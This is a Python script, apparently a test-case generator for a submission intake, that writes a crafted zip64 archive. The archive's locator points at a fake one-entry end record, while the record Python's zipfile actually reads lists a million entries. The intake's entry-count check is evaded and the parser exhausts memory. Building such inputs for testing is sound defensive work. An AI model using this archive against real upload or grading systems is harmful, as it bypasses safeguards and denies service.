"""Row 6b: a zip64 zip whose locator points at a fake zip64 end record (1 entry, an empty directory) while the real
one, just before the locator, lists N entries (default 1,000,000).

usage: python zip64_locator_zip.py OUT.zip [N]
intake.zip_entry_count reads the zip64 figures at the offset the locator names; zipfile (_EndRecData64) reads the
record just before the locator and ignores that offset, so it builds a ZipInfo for each of the N entries.
"""
import struct, sys, zlib

out, n = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 1_000_000
data = b"def run_gelu(x):\n    return x\n"
crc = zlib.crc32(data)
name0 = b"student/gelu.py"
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(name0), 0) + name0 + data


def z64_eocd(count, cd_size, cd_offset):
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, cd_size, cd_offset)


fake = z64_eocd(1, 0, len(local))  # what the locator points at: one entry, an empty directory
cd_offset = len(local) + len(fake)
cd = bytearray()
for i in range(n):
    name = name0 if i == 0 else b"x/%07d" % i
    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 20, 0, 0, 0, 0x21, crc, len(data), len(data),
                      len(name), 0, 0, 0, 0, 0o644 << 16, 0) + name
real = z64_eocd(n, len(cd), cd_offset)  # what zipfile reads: just before the locator
locator = struct.pack("<IIQI", 0x07064B50, 0, len(local), 1)  # names the fake record's offset
eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
with open(out, "wb") as f:
    f.write(local + fake + bytes(cd) + real + locator + eocd)
